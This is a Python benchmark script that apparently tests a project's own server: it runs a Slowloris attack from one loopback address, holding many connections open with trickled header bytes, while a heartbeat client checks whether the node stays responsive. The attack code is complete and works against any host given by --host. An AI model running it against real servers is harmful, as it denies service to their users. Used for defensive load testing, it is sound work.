#!/usr/bin/env python3
"""Slowloris against a running node while a heartbeat client checks it (issue 20, item 3).

Opens --connections connections from --attack-from, each sending a request line and then one
header byte every --interval seconds, never finishing its head; a connection the node closes
(408, or refused over the per-client cap) is opened again after --interval.  Meanwhile a
heartbeat client, bound to --heartbeat-from (another loopback address: Linux routes
127.0.0.0/8 to lo), GETs /heartbeat every 0.5 s with a 5 s timeout.  Prints JSON figures.

    python bench/slowloris.py --port 8080 --connections 1100 --interval 3 --duration 60

The node must listen where both addresses reach it (tcp:PORT:interface=127.0.0.1 does: the
connection's destination is 127.0.0.1 whatever its source).
"""

import argparse
import errno
import http.client
import json
import resource
import selectors
import socket
import threading
import time


def raise_open_files(wanted):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted if hard == resource.RLIM_INFINITY else min(wanted, hard),
                                                    hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


class Heartbeats(threading.Thread):
    def __init__(self, host, port, source, every=0.5, timeout=5.0):
        super().__init__(daemon=True)
        self.host, self.port, self.source, self.every, self.timeout = host, port, source, every, timeout
        self.stopping = threading.Event()
        self.results = []  # (ok, seconds, detail)

    def one(self):
        started = time.monotonic()
        try:
            conn = http.client.HTTPConnection(self.host, self.port, timeout=self.timeout,
                                              source_address=(self.source, 0))
            conn.request("GET", "/heartbeat", headers={"Connection": "close"})
            response = conn.getresponse()
            body = response.read()
            conn.close()
            ok, detail = response.status == 200 and body == b"OK", f"{response.status} {body[:40]!r}"
        except (OSError, http.client.HTTPException) as e:
            ok, detail = False, repr(e)
        self.results.append((ok, time.monotonic() - started, detail))

    def run(self):
        while not self.stopping.is_set():
            started = time.monotonic()
            self.one()
            self.stopping.wait(max(0.0, self.every - (time.monotonic() - started)))


class Slowloris:
    def __init__(self, host, port, source, connections, interval):
        self.host, self.port, self.source = host, port, source
        self.connections, self.interval = connections, interval
        self.selector = selectors.DefaultSelector()
        self.slots = {}  # socket -> next send time
        self.reopen_at = []  # times at which a closed slot opens again
        self.opened = self.closed_by_node = self.answered = self.open_errors = 0
        self.most_open = 0

    def open(self):
        s = socket.socket()
        s.setblocking(False)
        try:
            s.bind((self.source, 0))
            s.connect_ex((self.host, self.port))
        except OSError:
            s.close()
            self.open_errors += 1
            self.reopen_at.append(time.monotonic() + self.interval)
            return
        self.opened += 1
        self.slots[s] = [time.monotonic() + 0.05, 0]  # (next send, bytes sent)
        self.selector.register(s, selectors.EVENT_READ)

    def close(self, s):
        self.selector.unregister(s)
        del self.slots[s]
        s.close()
        self.closed_by_node += 1
        self.reopen_at.append(time.monotonic() + self.interval)

    def tick(self):
        now = time.monotonic()
        due = [t for t in self.reopen_at if t <= now]
        self.reopen_at = [t for t in self.reopen_at if t > now]
        for _ in due:
            self.open()
        for key, _ in self.selector.select(timeout=0):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if data:
                self.answered += 1
            self.close(s)
        for s, slot in list(self.slots.items()):
            if slot[0] > now:
                continue
            chunk = b"GET / HTTP/1.1\r\nHost: x\r\n" if slot[1] == 0 else b"X-%d: a\r\n" % slot[1]
            try:
                sent = s.send(chunk if slot[1] == 0 else chunk[:1])
                slot[1] += sent and 1
                slot[0] = now + (0.05 if sent == 0 else self.interval)
            except BlockingIOError:
                slot[0] = now + 0.05
            except OSError as e:
                if e.errno in (errno.ENOTCONN, errno.EAGAIN):
                    slot[0] = now + 0.05
                else:
                    self.close(s)
        self.most_open = max(self.most_open, len(self.slots))

    def start(self):
        for i in range(self.connections):
            self.open()
            if i % 100 == 99:
                self.tick()

    def stop(self):
        for s in list(self.slots):
            self.selector.unregister(s)
            s.close()
        self.slots.clear()


def run(host, port, connections, interval, duration, attack_from, heartbeat_from):
    raise_open_files(connections + 200)
    heartbeats = Heartbeats(host, port, heartbeat_from)
    before = len(heartbeats.results)
    attack = Slowloris(host, port, attack_from, connections, interval)
    heartbeats.start()
    time.sleep(1)  # (a few heartbeats before the attack)
    before = len(heartbeats.results)
    started = time.monotonic()
    attack.start()
    while time.monotonic() - started < duration:
        attack.tick()
        time.sleep(0.02)
    during = heartbeats.results[before:]
    attack.stop()
    heartbeats.stopping.set()
    heartbeats.join(10)
    failures = [detail for ok, _, detail in during if not ok]
    return {
        "connections": connections, "interval_s": interval, "duration_s": duration,
        "heartbeats": len(during), "heartbeats_failed": len(failures),
        "longest_heartbeat_s": round(max((s for _, s, _ in during), default=0.0), 3),
        "first_failures": failures[:3],
        "attack_opened": attack.opened, "attack_closed_by_node": attack.closed_by_node,
        "attack_answered": attack.answered, "attack_open_errors": attack.open_errors,
        "attack_most_open": attack.most_open,
    }


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=1100)
    parser.add_argument("--interval", type=float, default=3.0, help="seconds between two header bytes")
    parser.add_argument("--duration", type=float, default=60.0, help="seconds of attack")
    parser.add_argument("--attack-from", default="127.0.0.1")
    parser.add_argument("--heartbeat-from", default="127.0.0.2")
    args = parser.parse_args()
    print(json.dumps(run(args.host, args.port, args.connections, args.interval, args.duration, args.attack_from,
                         args.heartbeat_from)))


if __name__ == "__main__":
    main()
